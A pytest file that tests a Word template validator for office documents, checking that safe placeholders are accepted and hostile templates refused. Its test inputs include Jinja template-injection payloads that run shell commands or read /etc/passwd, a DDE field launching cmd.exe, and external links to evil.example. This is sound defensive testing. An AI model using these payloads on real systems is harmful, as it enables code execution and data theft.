"""Templates of an office: what they may say, what is refused with its sentence, what comes out."""

import io
import time
import zipfile
from typing import Any

import pytest
from docx import Document

from inspections.documents.word.office import filled, judge
from inspections.documents.word.shapes import SHAPES, example_of, places_of
from inspections.enums import DocumentKind
from inspections.exceptions import NotReady
from tests.documents.examples import example_snapshot
from tests.documents.test_word import opened, words_in_order

GOOD = (
    "{{ superior|in_hoa }}", "Số: {{ so_ky_hieu }}", "{{ dia_danh_ngay }}", "{{ subject }}",
    "{%p for person in team %}", "{{ loop.index }}. {{ person.name }}, {{ person.post }}", "{%p endfor %}",
    "Thời kỳ: từ {{ period_from|ngay_dai }}{% if demo %} (ví dụ){% endif %}",
)  # fmt: skip


def template(*paragraphs: str) -> bytes:
    made = Document()
    for text in paragraphs:
        made.add_paragraph(text)
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def with_part(name: str, content: bytes, *, of: bytes | None = None) -> bytes:
    """A template with one part more, or with a part changed."""
    source, out = zipfile.ZipFile(io.BytesIO(of or template(*GOOD))), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for part in source.namelist():
            if part != name:
                made.writestr(part, source.read(part))
        made.writestr(name, content)
    return out.getvalue()


def part_of(content: bytes, name: str) -> bytes:
    return zipfile.ZipFile(io.BytesIO(content)).read(name)


def test_a_good_template_shows_its_places_and_the_example_before_anything_is_kept() -> None:
    found = judge(template(*GOOD), "decision")
    assert found.refusal == "" and list(found.unknown) == []
    assert {"superior", "so_ky_hieu", "team", "period_from"} <= set(found.asked)
    text = "\n".join(found.lines)
    assert "UBND TỈNH MINH HOẠ" in text and "1. Nguyễn Thị Hồng Ánh" in text and "2. Nguyễn" in text
    assert words_in_order(opened(found.preview).element.body)


def test_unknown_places_are_named_also_within_a_person_of_a_list() -> None:
    found = judge(
        template("{{ subjekt }}", "{%p for p in team %}", "{{ p.phone }}", "{%p endfor %}"), "decision"
    )
    assert found.refusal == "" and list(found.unknown) == ["phone", "subjekt"]
    assert "[?subjekt]" in "\n".join(found.lines)


@pytest.mark.parametrize(
    "text",
    [
        "{{ ''.__class__ }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ subject.upper() }}",
        "{{ subject.__class__ }}", "{{ team.__init__.__globals__ }}", "{{ self._TemplateReference__context }}",
        "{{ cycler.__init__ }}", "{{ lipsum.__globals__['os'].popen('id').read() }}", "{{ 'a' * 1000000000 }}",
        "{{ 9**9**9 }}", "{{ 'x'|center(1000000000) }}", "{{ team[0] }}", "{{ subject|attr('__class__') }}",
        "{% for i in range(1000000000) %}x{% endfor %}", "{% for c in subject %}{{ c }}{% endfor %}",
        "{% for a in [1,2,3] %}{{ a }}{% endfor %}", "{% set x = 1 %}", "{% import 'os' as os %}",
        "{% include '/etc/passwd' %}", "{% macro m() %}{% endmacro %}", "{{ subject", "{% for %}", "{% endfor %}",
        "{{ 'a' ~ 'b' }}", "{{ {'a': 1} }}", "{% for a in team %}{% for b in team %}{% for c in team %}x"
        "{% endfor %}{% endfor %}{% endfor %}", "{% for a in team recursive %}{{ loop(team) }}{% endfor %}",
        "{{ subject|ngay_dai }}",
    ],
)  # fmt: skip
def test_what_is_more_than_a_place_to_fill_is_refused_with_a_sentence_and_at_once(text: str) -> None:
    began = time.monotonic()
    found = judge(template(text), "decision")
    assert found.refusal.endswith(".") and len(found.refusal) > 30
    assert not found.preview and time.monotonic() - began < 15


def test_python_attributes_of_values_are_simply_unknown() -> None:
    found = judge(template("{{ subject.upper }}{{ team.append }}{{ signer.items }}"), "decision")
    assert list(found.unknown) == ["append", "items", "upper"]


def test_the_refusals_hold_in_headers_notes_and_the_card_of_the_file_too() -> None:
    made = Document()
    made.sections[0].header.paragraphs[0].text = "{{ ''.__class__ }}"
    out = io.BytesIO()
    made.save(out)
    assert judge(out.getvalue(), "decision").refusal
    card = Document()
    card.core_properties.title = "{{ 9**9 }}"
    out = io.BytesIO()
    card.save(out)
    assert judge(out.getvalue(), "decision").refusal


def test_a_loop_that_never_ends_is_stopped_when_a_real_document_is_filled_in() -> None:
    snapshot = example_snapshot("decision")
    snapshot["team"] = snapshot["team"] * 100
    text = "{% for a in team %}{% for b in team %}x{% endfor %}{% endfor %}"
    with pytest.raises(NotReady, match="quá nhiều lần"):
        filled(template(text), snapshot, draft=False)


RELATIONSHIP = b'<Relationship Id="rId99" Type="http://x/%s" Target="http://evil.example/a" TargetMode="External"/></Relationships>'


@pytest.mark.parametrize("kind", [b"attachedTemplate", b"image", b"oleObject", b"frame"])
def test_a_template_that_fetches_from_outside_is_refused(kind: bytes) -> None:
    name = "word/_rels/document.xml.rels"
    changed = part_of(template(*GOOD), name).replace(b"</Relationships>", RELATIONSHIP % kind)
    assert "từ bên ngoài" in judge(with_part(name, changed), "decision").refusal


def test_embedded_things_and_fields_that_run_something_are_refused() -> None:
    assert "nhúng" in judge(with_part("word/embeddings/oleObject1.bin", b"x"), "decision").refusal
    made = template(*GOOD)
    field = b'<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p><w:sectPr'
    changed = part_of(made, "word/document.xml").replace(b"<w:sectPr", field, 1)
    assert "DDE" in judge(with_part("word/document.xml", changed), "decision").refusal


@pytest.mark.parametrize("content", [b"", b"PK\x03\x04", b"<html>", b"x" * 6_000_000])
def test_what_is_no_word_file_is_refused(content: bytes) -> None:
    assert judge(content, "decision").refusal


def test_a_very_long_or_knotted_template_does_not_hold_the_machine() -> None:
    began = time.monotonic()
    judge(template(*["{" * 200 + "{%" * 50 + "{{" * 50] * 60), "decision")
    judge(template(*["{%tr {%p {{ subject }} {%"] * 400), "decision")
    assert time.monotonic() - began < 45


def test_what_people_wrote_is_filled_in_as_text() -> None:
    snapshot = example_snapshot("decision")
    snapshot["subject"] = "A & B < C {{ 7*7 }}\nDòng hai"
    made = opened(filled(template("{{ subject }}"), snapshot, draft=False))
    assert "A & B < C {{ 7*7 }}" in words_in_order(made.element.body)


def test_draft_and_invented_data_are_marked_also_in_the_offices_own_template() -> None:
    snapshot = {**example_snapshot("decision"), "demo": True}
    headers = words_in_order(
        opened(filled(template(*GOOD), snapshot, draft=True)).sections[0].header._element
    )
    assert "BẢN NHÁP" in headers and "DỮ LIỆU MINH HOẠ" in headers
    clean: Any = opened(filled(template(*GOOD), {**snapshot, "demo": False}, draft=False))
    assert "BẢN NHÁP" not in words_in_order(clean.sections[0].header._element)


def test_every_kind_that_leaves_the_house_may_have_a_template_of_the_office() -> None:
    """The contents of a dossier are bound by the machine alone."""
    assert set(DocumentKind.values) - set(SHAPES) == {"contents"}


@pytest.mark.parametrize("kind", sorted(SHAPES))
def test_every_place_of_every_kind_can_be_filled_in_and_the_example_is_invented(kind: str) -> None:
    places = places_of(kind)
    assert not [place.name for place in places if not place.explanation]
    assert len(places) > 20 and DocumentKind(kind).label
    plain = [place.name for place in places if "[" not in place.name and not place.is_list]
    found = judge(template(*(f"{{{{ {name} }}}}" for name in plain)), kind)
    assert (found.refusal, list(found.unknown)) == ("", [])
    assert example_of(kind)["kind"] == kind
